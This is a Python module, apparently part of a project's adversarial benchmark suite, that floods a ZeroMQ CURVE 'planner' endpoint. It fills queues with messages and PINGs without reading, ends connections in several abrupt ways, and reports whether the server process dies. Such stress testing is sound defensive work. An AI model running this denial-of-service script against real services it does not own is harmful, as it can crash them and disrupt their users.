"""The ping attack: full queues, PINGs behind them, no reading, then an end that breaks the connection.

    python -m benchmarks.adversary.pings tcp://HOST:PORT SERVER_KEY --keys FILE --seconds 300 --json

attacks one ZeroMQ endpoint of a planner. FILE holds the CURVE key pair of the attacker
(`stageloom.shared.keyfile`), of an enrolled device perhaps; without `--keys` the attacker is a stranger with
a fresh key. As a function:

    attack(endpoint: str, server_key: str, keys: KeyPair | None, *, seconds: float, connections: int = 40,
           end: End = End.RESET) -> Outcome

It returns early, with `gone` set, once the endpoint takes no more TCP connections: the process has died.
"""

import argparse
import json
import socket
import time
from contextlib import suppress
from dataclasses import asdict, dataclass
from enum import Enum
from pathlib import Path
from typing import Final

import zmq

from benchmarks.adversary.zmtp import RawPeer
from stageloom.shared.keyfile import KeyPair, read_keys

_BLAST_BYTES: Final = 1 << 20  # more than any receive buffer of the planner holds
_MESSAGES_PER_PING: Final = 40  # more than any receive queue of the planner holds
_STALLED_S: Final = 0.05  # a connection that takes nothing for so long is full at the other end
_KEPT_ROUNDS: Final = 4
_LEFT_WAITING_S: Final = 1.0  # a handshake without an answer for so long was put off: the key came too often


class End(str, Enum):
    """How a connection ends once the planner's queue and buffers are full."""

    RESET = "reset"  # RST
    CLOSE = "close"  # FIN or RST, as the kernel chooses
    HALF = "half"  # FIN in the middle of a frame, and reading goes on
    LEAVE = "leave"  # nothing: the connection stays, unread


@dataclass
class Outcome:
    """What the attacker saw."""

    seconds: float = 0.0
    admitted: int = 0  # connections past the handshake
    refused: int = 0
    sent_bytes: int = 0
    gone: bool = False  # the endpoint takes no more connections


def attack(
    endpoint: str,
    server_key: str,
    keys: KeyPair | None,
    *,
    seconds: float,
    connections: int = 40,
    end: End = End.RESET,
) -> Outcome:
    """Attack `endpoint` (`tcp://HOST:PORT`) of the server whose key is `server_key` (Z85), in rounds."""
    if keys is None:
        public, secret = zmq.curve_keypair()
        keys = KeyPair(public.decode("ascii"), secret.decode("ascii"))
    outcome, began_s = Outcome(), time.monotonic()
    kept: list[RawPeer] = []
    while not outcome.gone and time.monotonic() - began_s < seconds:
        peers = _round(endpoint, server_key, keys, connections, outcome)
        for peer in peers:
            outcome.sent_bytes += _fill(peer)
        for peer in peers:
            finish(peer, end)
        if end in (End.LEAVE, End.HALF):
            kept = [*kept, *peers][-_KEPT_ROUNDS * connections :]
    for peer in kept:
        peer.socket.close()
    outcome.seconds = round(time.monotonic() - began_s, 1)
    return outcome


def _round(
    endpoint: str, server_key: str, keys: KeyPair, connections: int, outcome: Outcome
) -> list[RawPeer]:
    """Up to `connections` peers past the handshake; what became of the others is counted."""
    host, _, port = endpoint.removeprefix("tcp://").rpartition(":")
    peers: list[RawPeer] = []
    for _ in range(connections):
        with suppress(OSError):  # `HandshakeRefused`, or no answer in time
            try:
                peers.append(
                    RawPeer.connect(host.strip("[]"), int(port), keys, server_key, timeout_s=_LEFT_WAITING_S)
                )
            except ConnectionRefusedError:
                outcome.gone = True
                break
    outcome.admitted += len(peers)
    outcome.refused += connections - len(peers) if not outcome.gone else 0
    return peers


def _fill(peer: RawPeer) -> int:
    """Send messages and PINGs until the other end takes no more; returns the bytes that it took."""
    peer.socket.settimeout(_STALLED_S)
    taken = 0
    while taken < _BLAST_BYTES:
        burst = b"".join(peer.message(b"\x00\xc1") for _ in range(_MESSAGES_PER_PING)) + peer.ping()
        try:
            taken += peer.socket.send(burst)
        except OSError:
            break
    return taken


def finish(peer: RawPeer, end: End) -> None:
    """End a connection so."""
    with suppress(OSError):
        if end is End.RESET:
            peer.reset()
        elif end is End.CLOSE:
            peer.socket.close()
        elif end is End.HALF:
            peer.socket.send(peer.message(bytes(100))[:50])
            peer.socket.shutdown(socket.SHUT_WR)


def main() -> None:
    parser = argparse.ArgumentParser(
        prog="python -m benchmarks.adversary.pings", description=__doc__.split("\n")[0]
    )
    parser.add_argument("endpoint", help="tcp://HOST:PORT of one socket")
    parser.add_argument("server_key", help="the planner's public key, Z85")
    parser.add_argument("--keys", type=Path, help="key pair of an enrolled device; none: a stranger")
    parser.add_argument("--seconds", type=float, default=300.0)
    parser.add_argument("--connections", type=int, default=40, help="in a round")
    parser.add_argument("--end", type=End, choices=list(End), default=End.RESET)
    parser.add_argument("--json", action="store_true")
    given = parser.parse_args()
    keys = read_keys(given.keys) if given.keys else None
    outcome = attack(
        given.endpoint,
        given.server_key,
        keys,
        seconds=given.seconds,
        connections=given.connections,
        end=given.end,
    )
    print(json.dumps(asdict(outcome)) if given.json else outcome)


if __name__ == "__main__":
    main()
